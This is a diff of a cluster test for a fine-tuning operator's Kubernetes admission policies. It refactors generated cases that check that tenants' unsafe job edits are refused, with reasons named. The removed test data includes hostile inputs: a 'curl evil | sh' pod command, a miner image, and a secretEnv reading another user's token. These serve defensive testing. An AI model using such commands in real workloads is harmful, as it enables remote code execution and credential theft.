@@ -3,11 +3,12 @@ chart's admission policies: each case is refused with a message naming the field
 admitted, and then the object the API server would store is shown harmless (within the limits its job started
 with, run by a user who may do what it does).
 
-The cases are generated: each change of FIELD_CHANGES, applied to each running job of BASES (a job under a runtime,
-a job under the namespace's default, a job running as a ServiceAccount with a Secret), sent by each path of PATHS,
-as each role of ROLES. What should happen is worked out here, not written down: the runtime limits by the
-operator's own check (api/runtime_layers.py: the live runtimes for a create, the recorded snapshot for an update),
-the identity and Secret rules from the role's rights and api/job_rights.py, RBAC from the role. Everything is a
+The cases are generated (tests/support/admission_cases.py): each change of FIELD_CHANGES, applied to each running job
+of BASES (a job under a runtime that lends a Secret, a job under the namespace's default, a job running as a
+ServiceAccount with a Secret), sent by each path of PATHS, as each role of ROLES. What should happen is worked out
+there, not written down: the runtime limits by the operator's own check (api/runtime_layers.py: the live runtimes
+for a create, the recorded snapshot for an update), the schema by the operator's validation, the identity, NFS,
+Secret and ConfigMap rules from the role's rights and api/job_rights.py, RBAC from the role. Everything is a
 server-side dry run, so thousands of cases share one namespace and one set of jobs. The runtimes are tightened
 after the jobs started: a create is judged against what they say now, an update against what the job recorded.
 """
@@ -21,306 +22,35 @@ import threading
 import time
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
-from dataclasses import dataclass
-from typing import Any
 
 import pytest
 
-from finetune_operator.api.job_rights import changed_fields, secret_names
-from finetune_operator.api.runtime import merge
-from finetune_operator.api.runtime_layers import RUNTIME_NOT_ALLOWED, recorded, resolve_offline
-from finetune_operator.api.validation import validate_job
-from finetune_operator.controller.merge_patch import merge_patch
+from finetune_operator.api.runtime_layers import resolve_offline
+from finetune_operator.api.runtime_limits import parse_runtime
 from finetune_operator.render.rbac import render_trainer_identity
-from tests.builders import make_job
 from tests.cluster.test_tenancy import FTJ, bind, chart_objects, delete_all, wait_can
-from tests.support.tenant_api import Answer, TenantApi
+from tests.support.admission_cases import (
+    CLAIM_VOLUME,
+    FIELD_CHANGES,
+    NAMESPACE_LABEL,
+    NFS_VOLUME,
+    PATHS,
+    REASONS,
+    ROLES,
+    STARTED,
+    TIGHTENED,
+    Role,
+    bases,
+    expected,
+    lean,
+    result,
+    runtime,
+    said,
+    send,
+)
+from tests.support.tenant_api import TenantApi
 
 pytestmark = pytest.mark.cluster
-NAMESPACE_LABEL = {"finetunejob.dev/admission-matrix": "yes"}
-QUEUE = "kueue.x-k8s.io/queue-name"
-EVIL = "docker.io/evil/miner:latest"
-
-
-def runtime(name: str, template: dict, limits: dict, default: bool = False, selector: dict | None = None) -> dict:
-    spec: dict[str, Any] = {"default": default, "template": template, "limits": limits}
-    if selector is not None:
-        spec["namespaceSelector"] = selector
-    return {"apiVersion": "finetunejob.dev/v1alpha1", "kind": "ClusterFineTuneRuntime",
-            "metadata": {"name": name}, "spec": spec}
-
-
-OURS = {"matchLabels": NAMESPACE_LABEL}
-# As the jobs start, and as the admin tightens them afterwards (a create is judged by the second, a started job by
-# the first, as recorded).
-STARTED = [
-    runtime("matrix-gpu-small", {"pod": {"image": "registry.local/trainer:ok"}, "distributed": {"gpusPerNode": 2}},
-            {"locked": ["pod.image", "queueName"], "maxNodes": 2, "maxGpusPerJob": 4,
-             "maxActiveDeadlineSeconds": 86400}, selector=OURS),
-    runtime("matrix-gpu-large", {}, {}, selector=OURS),
-    runtime("matrix-elsewhere", {}, {}, selector={"matchLabels": {"team": "someone-else"}}),
-    runtime("matrix-default", {"distributed": {"gpusPerNode": 1}}, {"maxGpusPerJob": 2,
-                                                                    "maxActiveDeadlineSeconds": 86400},
-            default=True, selector=OURS),
-]
-TIGHTENED = [copy.deepcopy(r) for r in STARTED]
-TIGHTENED[0]["spec"]["limits"].update(maxGpusPerJob=2, locked=["pod.image", "queueName", "pod.volumes"])
-TIGHTENED[3]["spec"]["limits"].update(maxGpusPerJob=1)
-
-
-def lean(name: str, ns: str, **spec: Any) -> dict:
-    doc = make_job({"metadata.name": name, "metadata.namespace": ns, "spec.runPolicy": {"activeDeadlineSeconds": 3600}})
-    for section in ("distributed", "resources", "pod"):
-        doc["spec"].pop(section, None)
-    doc["spec"].update(copy.deepcopy(spec))
-    return doc
-
-
-def bases(ns: str) -> dict[str, dict]:
-    return {
-        "under-a-runtime": lean("under-a-runtime", ns, runtimeRef={"name": "matrix-gpu-small"}),
-        "under-the-default": lean("under-the-default", ns),
-        "as-a-service-account": lean("as-a-service-account", ns, runtimeRef={"name": "matrix-gpu-large"},
-                                     pod={"serviceAccountName": "deployer", "image": "registry.local/alice:1",
-                                          "secretEnv": [{"name": "ALICE_TOKEN", "secretName": "alice-token",
-                                                         "key": "token"}]}),
-    }
-
-
-# --- the changes: field -> named edits of a job (each returns the job as the tenant wants it) -------------------
-Change = Callable[[dict], dict]
-
-
-def _at(path: str, value: Any) -> Change:
-    def change(obj: dict) -> dict:
-        node = obj
-        *parents, leaf = path.split(".")
-        for part in parents:
-            node = node.setdefault(part, {})
-        node[leaf] = copy.deepcopy(value)
-        return obj
-    return change
-
-
-def _without(path: str) -> Change:
-    def change(obj: dict) -> dict:
-        node = obj
-        *parents, leaf = path.split(".")
-        for part in parents:
-            node = node.get(part) or {}
-        node.pop(leaf, None)
-        return obj
-    return change
-
-
-def _added(path: str, item: Any) -> Change:
-    def change(obj: dict) -> dict:
-        node = obj
-        *parents, leaf = path.split(".")
-        for part in parents:
-            node = node.setdefault(part, {})
-        node[leaf] = [*node.get(leaf, []), copy.deepcopy(item)]
-        return obj
-    return change
-
-
-def _label(key: str, value: str) -> Change:
-    def change(obj: dict) -> dict:
-        obj["metadata"]["labels"] = {**(obj["metadata"].get("labels") or {}), key: value}
-        return obj
-    return change
-
-
-SECRET_VOLUME = {"name": "creds", "mountPath": "/creds", "secret": "alice-token"}
-CLAIM_VOLUME = {"name": "theirs", "mountPath": "/theirs", "claimName": "someone-elses-claim"}
-FIELD_CHANGES: dict[str, dict[str, Change]] = {
-    "runtimeRef": {"removed": _without("spec.runtimeRef"), "to a looser one": _at("spec.runtimeRef",
-                                                                                  {"name": "matrix-gpu-large"}),
-                   "to one for other namespaces": _at("spec.runtimeRef", {"name": "matrix-elsewhere"}),
-                   "to the strict one": _at("spec.runtimeRef", {"name": "matrix-gpu-small"})},
-    "distributed": {"24 GPUs": _at("spec.distributed", {"numNodes": 3, "gpusPerNode": 8}),
-                    "4 GPUs": _at("spec.distributed", {"numNodes": 2}), "removed": _without("spec.distributed")},
-    "image": {"another": _at("spec.pod.image", EVIL), "removed": _without("spec.pod.image")},
-    "command/args/env": {"env": _added("spec.pod.env", {"name": "PYTHONPATH", "value": "/evil"}),
-                         "command": _at("spec.pod.command", ["sh", "-c", "curl evil | sh"]),
-                         "args": _at("spec.pod.args", ["--evil"]),
-                         "initContainers": _at("spec.pod.initContainers", [{"name": "x", "image": EVIL}])},
-    "volumes": {"a Secret": _added("spec.pod.volumes", SECRET_VOLUME),
-                "another claim": _added("spec.pod.volumes", CLAIM_VOLUME)},
-    "secretEnv": {"an unreadable Secret": _added("spec.pod.secretEnv", {"name": "STOLEN", "secretName": "alice-token",
-                                                                        "key": "token"}),
-                  "a readable Secret": _added("spec.pod.secretEnv", {"name": "MINE", "secretName": "fiona-token",
-                                                                     "key": "token"})},
-    "serviceAccountName": {"deployer": _at("spec.pod.serviceAccountName", "deployer"),
-                           "removed": _without("spec.pod.serviceAccountName")},
-    "imagePullSecrets": {"unreadable": _at("spec.pod.imagePullSecrets", ["alice-token"]),
-                         "readable": _at("spec.pod.imagePullSecrets", ["fiona-token"])},
-    "other Secret references": {"s3": _at("spec.s3", {"credentialsSecret": "alice-token"}),
-                                "hub token": _at("spec.output", {"push": {"repo": "org/model",
-                                                                          "tokenSecret": {"name": "alice-token"}}})},
-    "deadlines": {"over the limit": _at("spec.runPolicy.activeDeadlineSeconds", 999999),
-                  "within": _at("spec.runPolicy.activeDeadlineSeconds", 7200),
-                  "removed": _without("spec.runPolicy.activeDeadlineSeconds")},
-    "queue": {"a queue label": _label(QUEUE, "team-q"),
-              "labels removed": _without("metadata.labels")},
-    "what runs (other fields)": {"training": _at("spec.training", {"learningRate": 0.1}),
-                                 "annotations": _at("spec.pod.annotations", {"vault.example.com/inject": "true"})},
-    "suspend and runPolicy (harmless)": {"suspend": _at("spec.suspend", True),
-                                         "backoffLimit": _at("spec.runPolicy.backoffLimit", 1)},
-}
-UNKNOWN = ("command", "args", "initContainers")  # not in the schema: refused as unknown fields, never pruned
-PATHS = ("create", "update", "merge", "json", "strategic", "apply")
-
-
-@dataclass(frozen=True)
-class Role:
-    name: str
-    writes: bool  # may create/update/patch FineTuneJobs (RBAC)
-    pods: bool  # may create pods (so may run as any ServiceAccount)
-    secrets: frozenset[str] | None  # Secrets it may get (None: every one in the namespace)
-
-
-ROLES = (Role("edit", True, True, None), Role("finetunejob-only", True, False, frozenset({"fiona-token"})),
-         Role("view", False, False, frozenset()), Role("trainer-token", False, False, frozenset()),
-         Role("unbound-sa-token", False, False, frozenset()))
-
-
-# --- the expected outcome -----------------------------------------------------------------------------------------
-def result(base: dict, wanted: dict, path: str) -> dict:
-    """The object the API server would store: what was sent, except server-side apply, which never removes a field
-    the applier did not set before (the base jobs' fields belong to whoever created them)."""
-    if path == "apply":
-        return {**base, "metadata": {**base["metadata"], **merge(base["metadata"], wanted["metadata"])},
-                "spec": merge(base["spec"], wanted["spec"])}
-    return wanted
-
-
-def _ref(obj: dict) -> dict | None:
-    """spec.runtimeRef as stored (the API server fills in its kind)."""
-    ref = obj["spec"].get("runtimeRef")
-    return None if ref is None else {"kind": "ClusterFineTuneRuntime", **ref}
-
-
-def unknown_fields(obj: dict) -> list[str]:
-    return [f"spec.pod.{k}" for k in UNKNOWN if k in (obj["spec"].get("pod") or {})]
-
-
-def expected(role: Role, path: str, base: dict | None, obj: dict, snapshot: dict | None,
-             runtimes: list[dict]) -> set[str]:
-    """Why the API server must refuse `obj` (the empty set: admit it); base None for a create."""
-    if _ref(obj) is not None:
-        obj = {**obj, "spec": {**obj["spec"], "runtimeRef": _ref(obj)}}
-    if not role.writes:
-        return {"rbac"}
-    if path == "strategic":
-        return {"strategic"}
-    if unknown_fields(obj):
-        return {"unknown"}
-    if base is not None and _ref(base) != _ref(obj):
-        return {"immutable"}
-    reasons = set()
-    if base is None:
-        resolved = resolve_offline(obj, runtimes, lambda: {**NAMESPACE_LABEL,
-                                                           "kubernetes.io/metadata.name": obj["metadata"]["namespace"]})
-        if resolved.missing is not None:
-            assert resolved.reason == RUNTIME_NOT_ALLOWED, resolved.missing
-            reasons.add("selector")
-    else:
-        resolved = recorded(obj, snapshot)
-    if resolved.missing is None:
-        validate_job(resolved.obj)  # a malformed case would hide its limits (every case is a valid job)
-        if resolved.errors:
-            reasons.add("limits")
-    changed = changed_fields(base, obj)
-    if changed and (obj["spec"].get("pod") or {}).get("serviceAccountName") and not role.pods:
-        reasons.add("identity")
-    names = {n for ns in secret_names(obj).values() for n in ns}
-    if changed and role.secrets is not None and names - role.secrets:
-        reasons.add("secrets")
-    return reasons
-
-
-def said(reason: str, answer: Answer, obj: dict, base: dict | None, snapshot: dict | None,
-         runtimes: list[dict]) -> bool:
-    """The refusal is this reason's, and names the field and what is missing."""
-    m = answer.message
-    if reason == "rbac":
-        return answer.status == 403 and "cannot" in m
-    if reason == "strategic":
-        return answer.status == 415
-    if reason == "unknown":
-        # Server-side apply says it while building the typed patch (500, "field not declared in schema").
-        return answer.status in (400, 422, 500) and ("unknown field" in m or "field not declared in schema" in m) \
-            and any(f in m for f in unknown_fields(obj))
-    if reason == "immutable":
-        return answer.status == 422 and "spec.runtimeRef is immutable" in m
-    if reason == "selector":
-        return answer.status == 403 and "may not be used in namespace" in m and "spec.runtimeRef" in m
-    if reason == "limits":
-        errors = (resolve_offline(obj, runtimes).errors if base is None else recorded(obj, snapshot).errors)
-        limits = {re.search(r"limits\.\w+", e.message)[0] for e in errors}
-        return answer.status == 403 and any(limit in m for limit in limits)
-    if reason == "identity":
-        fields = changed_fields(base, obj)
-        named = "spec.pod.serviceAccountName" if base is None else None
-        return answer.status == 403 and "needs the right to create pods" in m and (
-            (named is not None and named in m) or any(f in m for f in fields))
-    if reason == "secrets":
-        refs = secret_names(obj)
-        return answer.status == 403 and "may not get it" in m and any(
-            f"{field}" in m and f"Secret {n}" in m for field, names in refs.items() for n in names)
-    raise AssertionError(reason)
-
-
-# --- the requests ---------------------------------------------------------------------------------------------------
-def json_patch(before: Any, after: Any, at: str = "") -> list[dict]:
-    ops: list[dict] = []
-    for key in before:
-        if key not in after:
-            ops.append({"op": "remove", "path": f"{at}/{_escape(key)}"})
-    for key, value in after.items():
-        where = f"{at}/{_escape(key)}"
-        if key not in before:
-            ops.append({"op": "add", "path": where, "value": value})
-        elif isinstance(value, dict) and isinstance(before[key], dict):
-            ops += json_patch(before[key], value, where)
-        elif value != before[key]:
-            ops.append({"op": "replace", "path": where, "value": value})
-    return ops
-
-
-def _escape(key: str) -> str:
-    return key.replace("~", "~0").replace("/", "~1")
-
-
-def _writable(obj: dict) -> dict:
-    labels = obj["metadata"].get("labels")
-    return {"metadata": {"labels": labels} if labels is not None else {}, "spec": obj["spec"]}
-
-
-def send(api: TenantApi, path: str, stored: dict, wanted: dict, name: str) -> Answer:
-    ns = stored["metadata"]["namespace"]
-    if path == "create":
-        fresh = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
-                 "metadata": {"name": name, "namespace": ns, "labels": wanted["metadata"].get("labels") or {}},
-                 "spec": wanted["spec"]}
-        return api.create(fresh)
-    if path == "update":
-        return api.update({**stored, "metadata": {**stored["metadata"], "labels": wanted["metadata"].get("labels")},
-                           "spec": wanted["spec"]})
-    if path in ("merge", "strategic"):
-        return api.patch(ns, stored["metadata"]["name"], path, merge_patch(_writable(stored), _writable(wanted)))
-    if path == "json":
-        ops = json_patch(_writable(stored), _writable(wanted)) or [{"op": "test", "path": "/spec", "value":
-                                                                   stored["spec"]}]
-        return api.patch(ns, stored["metadata"]["name"], "json", ops)
-    applied = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
-               "metadata": {"name": stored["metadata"]["name"], "namespace": ns,
-                            **({"labels": wanted["metadata"]["labels"]} if wanted["metadata"].get("labels") else {})},
-               "spec": wanted["spec"]}
-    return api.patch(ns, stored["metadata"]["name"], "apply", applied, manager=f"tenant-{api.user or 'token'}")
-
-
 # --- the world ------------------------------------------------------------------------------------------------------
 def _apply(kubectl, *docs: dict) -> None:
     kubectl.run("apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": list(docs)}))
@@ -347,8 +77,9 @@ def world(control_plane, kubectl):
         kubectl.run("create", "serviceaccount", "deployer", "-n", ns)
         kubectl.run("create", "rolebinding", "deployer-edit", "--clusterrole=edit", f"--serviceaccount={ns}:deployer",
                     "-n", ns)
-        for secret in ("alice-token", "fiona-token"):
+        for secret in ("alice-token", "fiona-token", "platform-hf"):
             kubectl.run("create", "secret", "generic", secret, "--from-literal=token=t", "-n", ns)
+        kubectl.run("create", "configmap", "team-settings", "--from-literal=a=b", "-n", ns)
         bind(kubectl, ns, "eddie", "edit")
         bind(kubectl, ns, "vera", "view")
         kubectl.run("create", "role", "ftj-only", "--verb=create,get,list,update,patch,delete", f"--resource={FTJ}",
@@ -453,7 +184,7 @@ def test_every_field_every_path_every_role_is_refused_naming_why_or_is_harmless(
     assert not failures, f"{len(failures)} of {len(work)} cases:\n" + "\n".join(failures[:40])
     # Every reason was met somewhere (a matrix whose cases all pass for one reason proves little).
     seen = {r for key in outcomes for r in key.removeprefix("refused: ").split("/")}
-    assert {"rbac", "strategic", "unknown", "immutable", "selector", "limits", "identity", "secrets"} <= seen, outcomes
+    assert seen >= REASONS, outcomes
     assert outcomes.get("admitted (harmless)", 0) > 0
 
 
@@ -461,16 +192,17 @@ def test_every_field_every_path_every_role_is_refused_naming_why_or_is_harmless(
 TEMPLATES = {"nothing": {}, "2 nodes": {"distributed": {"numNodes": 2}}, "2 GPUs a node": {"distributed": {
     "gpusPerNode": 2}}, "fsdp": {"distributed": {"strategy": "fsdp"}}, "a long deadline": {"runPolicy": {
         "activeDeadlineSeconds": 999999}}, "a claim": {"pod": {"volumes": [CLAIM_VOLUME]}},
-    "an image": {"pod": {"image": "registry.local/team:1"}}, "a queue": {"queueName": "team-q"}}
+    "an image": {"pod": {"image": "registry.local/team:1"}}, "a queue": {"queueName": "team-q"},
+    "an NFS export": {"pod": {"volumes": [NFS_VOLUME]}}}
 LIMITS = {"none": {}, "4 GPUs": {"maxGpusPerJob": 4}, "1 node": {"maxNodes": 1}, "deepspeed only": {
     "allowedStrategies": ["deepspeed"]}, "a day": {"maxActiveDeadlineSeconds": 86400}, "team claims": {
-        "allowedClaims": ["team-data"]}, "image locked": {"locked": ["pod.image", "queueName"]}}
+        "allowedClaims": ["team-data"]}, "image locked": {"locked": ["pod.image", "queueName"]},
+    "claims only": {"allowedVolumeKinds": ["persistentVolumeClaim"]}}
 
 
 def test_a_runtime_whose_template_breaks_its_own_limits_is_refused_as_the_operator_says(world, kubectl):
     """Every template x every limit, both kinds, at `kubectl apply` (dry run as a cluster admin): refused exactly
     when the operator would call the runtime invalid (api/runtime.py), every broken limit in one message."""
-    from finetune_operator.api.runtime import parse_runtime
 
     ns, apis, _ = world
     admin = TenantApi(apis["edit"].kubeconfig)
@@ -533,7 +265,6 @@ def test_a_namespace_default_layered_over_the_cluster_default_is_refused_at_appl
         doc = team(template, limits)
         answer = admin.request("POST", where, doc, query=TenantApi.DRY)
         errors = layering_errors(LAYERED_CLUSTER, doc)
-        from finetune_operator.api.runtime import parse_runtime
 
         own = parse_runtime(doc)[1]  # its own template against its own limits: the other policy's
         case = f"a namespace default with {t_name} under {l_name}"
